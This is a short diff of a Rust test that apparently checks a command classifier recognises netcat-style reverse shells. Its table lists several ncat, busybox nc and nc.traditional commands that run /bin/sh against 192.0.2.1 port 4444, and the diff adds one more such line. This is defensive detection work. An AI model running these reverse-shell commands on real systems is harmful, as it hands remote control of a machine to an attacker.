@@ -13,10 +13,7 @@ fn netcat_ties_a_program_to_its_connection() {
         ("/usr/bin/ncat --exec /bin/sh 192.0.2.1 4444", shell),
         ("ncat --exec=/bin/sh 192.0.2.1 4444", shell),
         ("busybox nc 192.0.2.1 4444 -e /bin/sh", shell),
-        (
-            "/bin/busybox.static nc x",
-            "execute /bin/busybox.static nc x",
-        ),
+        ("/bin/busybox.static nc 192.0.2.1 4444 -e /bin/sh", shell),
         ("nc.traditional -nve /bin/sh 192.0.2.1 4444", shell),
         ("rlwrap nc -w 3 -e /bin/sh 192.0.2.1 4444", shell),
         ("nohup setsid nc -e/bin/sh 192.0.2.1 4444", shell),
